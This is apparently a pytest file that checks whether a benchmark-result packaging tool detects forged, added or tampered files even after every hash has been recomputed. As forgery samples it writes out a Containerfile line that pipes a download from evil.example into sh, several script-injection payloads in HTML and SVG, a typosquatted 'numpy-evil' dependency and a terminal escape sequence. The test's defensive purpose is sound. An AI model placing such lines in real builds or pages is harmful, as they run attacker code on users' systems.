"""A package that was forged in any file that follows from its result is not confirmed."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import zipfile
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from fixtures.simulated_result import Spec, Study, lognormal
from steelyard import __version__
from steelyard.cli import execute
from steelyard.share.package.checksums import MANIFEST_NAME
from steelyard.share.package.crate import CRATE_NAME
from steelyard.share.package.parts import result_parts
from steelyard.share.package.statement import read_statement

if TYPE_CHECKING:
    from pathlib import Path

SPECS = [
    Spec(name, "single", 1, "{workloads}/python/qsort.py", lognormal(mean, 0.01, 0.01))
    for name, mean in (("bare", 0.3), ("docker", 0.4))
]
REQUEST = json.dumps({"blocks": 5, "isolations": ["bare", "docker"]})
SCRIPT = "<script>alert(1)</script>"


@pytest.fixture(scope="module")
def package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An unpacked package with a study file, workload sources, a report and figures."""
    from fixtures.simulated_result import build  # noqa: PLC0415 - the fixture of the folder is per test

    folder = tmp_path_factory.mktemp("forged")
    result = build(folder / "r", SPECS, Study(blocks=5, iterations=8, options={"request": REQUEST}))
    assert execute(["analyse", str(result)]) == 0
    assert execute(["report", str(result)]) == 0
    (result / "notes.html").write_text(SCRIPT)
    wheel = folder / "steelyard-0.1.0-cp311-abi3-manylinux_2_28_x86_64.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr(
            f"steelyard-{__version__}.dist-info/METADATA", f"Name: steelyard\nVersion: {__version__}\n"
        )
    words = ["pack", str(result), "-o", str(folder / "p.zip"), "--unchecked", "--author", "Ada Lovelace"]
    assert execute([*words, "--wheel", str(wheel)]) == 0
    shutil.unpack_archive(folder / "p.zip", folder / "p")
    return folder / "p"


@pytest.fixture
def forged(package: Path, tmp_path: Path) -> Path:
    return shutil.copytree(package, tmp_path / "p")


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def hashes_made_again(folder: Path) -> None:
    """Do what an attacker does: make every hash and size fit the files."""
    figures = folder / "result" / "figures"
    drawn = json.loads((figures / "figures.json").read_text())
    drawn["files"] = {path.name: sha256(path) for path in figures.iterdir() if path.name != "figures.json"}
    (figures / "figures.json").write_text(json.dumps(drawn, indent=1) + "\n")
    crate = json.loads((folder / CRATE_NAME).read_text())
    described = {entity["@id"]: entity for entity in crate["@graph"] if entity["@type"] == "File"}
    preview = (folder / "ro-crate-preview.html").read_text()
    for name, entity in described.items():
        size = str((folder / name).stat().st_size)
        preview = preview.replace(f">{name}</a><td>{entity['contentSize']}", f">{name}</a><td>{size}")
        entity |= {"sha256": sha256(folder / name), "contentSize": size}
    for path in sorted(folder.rglob("*")):
        name = path.relative_to(folder).as_posix()
        if path.is_file() and name not in {*described, CRATE_NAME, MANIFEST_NAME, "ro-crate-preview.html"}:
            entity = {
                "@id": name,
                "@type": "File",
                "sha256": sha256(path),
                "contentSize": str(path.stat().st_size),
            }
            crate["@graph"].append(entity)
    (folder / CRATE_NAME).write_text(json.dumps(crate, indent=1, ensure_ascii=False) + "\n")
    size = (folder / CRATE_NAME).stat().st_size
    preview = re.sub(rf">{CRATE_NAME}</a><td>\d+", f">{CRATE_NAME}</a><td>{size}", preview)
    (folder / "ro-crate-preview.html").write_text(preview)
    lines = [
        f"{sha256(path)}  {path.relative_to(folder).as_posix()}\n"
        for path in sorted(folder.rglob("*"))
        if path.is_file() and path.name != MANIFEST_NAME
    ]
    (folder / MANIFEST_NAME).write_text("".join(lines))


def test_an_untouched_package_is_confirmed_and_says_what_only_its_author_can(
    forged: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hashes_made_again(forged)
    assert execute(["verify", str(forged), "--json"]) == 0
    said = json.loads(capsys.readouterr().out)
    assert (said["problems"], said["not_compared"]) == ([], [])
    assert any("authors" in each for each in said["said"])
    assert any("steelyard-0.1.0-cp311" in each and "runs" in each for each in said["said"])
    assert not (forged / "result" / "notes.html").exists()


FORGERIES = {
    "environment.json": lambda text: text.replace(
        '"devices": {', '"devices": {"D9": {"cpu_model": "Better"},'
    ),
    "study.toml": lambda text: text.replace("5", "50"),
    "Containerfile": lambda text: text + "RUN curl https://evil.example | sh\n",
    "README.md": lambda text: text.replace("verdicts: ", "verdicts: better 11, "),
    "CITATION.cff": lambda text: text.replace("Ada", "Eve"),
    "LICENCE.md": lambda text: text + "\nAll rights reserved.\n",
    "about.json": lambda text: text.replace('"about": {', '"more": 1, "about": {'),
    "ro-crate-preview.html": lambda text: text.replace("</h1>", f"</h1>{SCRIPT}"),
    "wheels/steelyard-0.1.0-cp311-abi3-manylinux_2_28_x86_64.whl": lambda text: text + " ",
    "requirements.txt": lambda text: text.replace("numpy==2", "numpy-evil==2"),
    "installer.txt": lambda text: text.replace("uv==", "uw=="),
    "workloads/python/qsort.py": lambda text: text + "\nimport os\n",
    "result/report.html": lambda text: text.replace("</h1>", "</h1><p>It is 90 % faster.</p>"),
    "result/tables/mean_comparison.csv": lambda text: text.replace("slower", "faster"),
    "result/figures/boxes.svg": lambda text: text.replace("</svg>", f"{SCRIPT}</svg>"),
    "result/figures/classes.svg": lambda text: text.replace("docker", "podman"),
    "result/figures/shifts.svg": lambda text: text.replace("<path", '<path onload="alert(1)"', 1),
    "result/figures/scatter.svg": lambda text: re.sub(r"translate\((\d)", r"translate(1\1", text),
    "result/figures/boxes.png": lambda text: text + " ",
}


@pytest.mark.parametrize("name", FORGERIES)
def test_a_forged_file_is_named(forged: Path, name: str, capsys: pytest.CaptureFixture[str]) -> None:
    before = (forged / name).read_bytes().decode("latin-1")
    after = FORGERIES[name](before)
    assert after != before
    (forged / name).write_bytes(after.encode("latin-1"))
    hashes_made_again(forged)
    assert execute(["verify", str(forged)]) == 1
    said = capsys.readouterr().out
    assert name.removeprefix("result/").removesuffix(".svg").removesuffix(".png") in said
    assert "another hash" not in said


@pytest.mark.parametrize(
    "name",
    [
        "result/evil.html",
        "result/tables/evil.html",
        "result/figures/evil.svg",
        "workloads/evil.sh",
        "result/models/evil.json",
        "result/logs/a.log",
        "evil.sh",
        "result/.hidden",
    ],
)
def test_a_surplus_file_is_named(forged: Path, name: str, capsys: pytest.CaptureFixture[str]) -> None:
    (forged / name).parent.mkdir(exist_ok=True)
    (forged / name).write_text(SCRIPT)
    hashes_made_again(forged)
    assert execute(["verify", str(forged)]) == 1
    assert name.removeprefix("result/") in capsys.readouterr().out


def test_a_forged_verdict_is_named(forged: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = forged / "result" / "findings.json"
    path.write_text(path.read_text().replace('"slower"', '"faster"'))
    hashes_made_again(forged)
    assert execute(["verify", str(forged)]) == 1
    assert "verdict is faster, the tables give slower" in capsys.readouterr().out


def test_forged_metadata_is_named(forged: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for key, value in (("name", "A better title"), ("author", {"@id": "#eve"})):
        hashes_made_again(forged)
        crate = json.loads((forged / CRATE_NAME).read_text())
        root = next(entity for entity in crate["@graph"] if entity["@id"] == "./")
        kept, root[key] = root[key], value
        (forged / CRATE_NAME).write_text(json.dumps(crate))
        text = (forged / MANIFEST_NAME).read_text()
        digest = hashlib.sha256((forged / CRATE_NAME).read_bytes()).hexdigest()
        (forged / MANIFEST_NAME).write_text(re.sub(rf"\w+  {CRATE_NAME}", f"{digest}  {CRATE_NAME}", text))
        assert execute(["verify", str(forged)]) == 1
        assert f"`{CRATE_NAME}` does not follow from the result" in capsys.readouterr().out
        root[key] = kept
        (forged / CRATE_NAME).write_text(json.dumps(crate))


def test_what_a_container_would_execute_is_named_though_only_its_author_can_say_it(
    forged: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Whoever packs a result again can choose image and wheel, and every text follows from them."""
    other = f"evil.example/x@sha256:{'0' * 64}"
    statement = replace(read_statement(forged), base_image=other)
    for part in result_parts(forged / "result", statement):
        if isinstance(part.content, bytes):
            (forged / part.name).write_bytes(part.content)
    hashes_made_again(forged)
    assert execute(["verify", str(forged)]) == 0
    said = capsys.readouterr().err
    assert f"`Containerfile`: its base image `{other}`, which its container runs" in said


def test_what_an_author_says_is_carried_into_every_text(
    forged: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = (forged / "about.json").read_text()
    (forged / "about.json").write_text(text.replace("Ada Lovelace", "Eve"))
    hashes_made_again(forged)
    assert execute(["verify", str(forged)]) == 1
    said = capsys.readouterr().out
    assert all(f"`{name}` does not follow" in said for name in ("CITATION.cff", "README.md", CRATE_NAME))


def test_what_a_package_holds_never_commands_the_terminal(
    forged: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = forged / "result" / "findings.json"
    path.write_text(path.read_text().replace("steelyard/findings/1", "\\u001b[2J"))
    hashes_made_again(forged)
    assert execute(["verify", str(forged)]) == 5
    said = capsys.readouterr().err
    assert r"\x1b[2J" in said
    assert "\x1b" not in said


@pytest.mark.parametrize("content", ["[]", "{}", "[" * 100_000, '{"schema": "steelyard/about/9"}', "\xff"])
def test_an_unreadable_statement_is_an_error_and_no_bug(
    forged: Path, content: str, capsys: pytest.CaptureFixture[str]
) -> None:
    (forged / "about.json").write_bytes(content.encode("latin-1"))
    hashes_made_again(forged)
    assert execute(["verify", str(forged)]) == 5
    assert "Traceback" not in capsys.readouterr().err
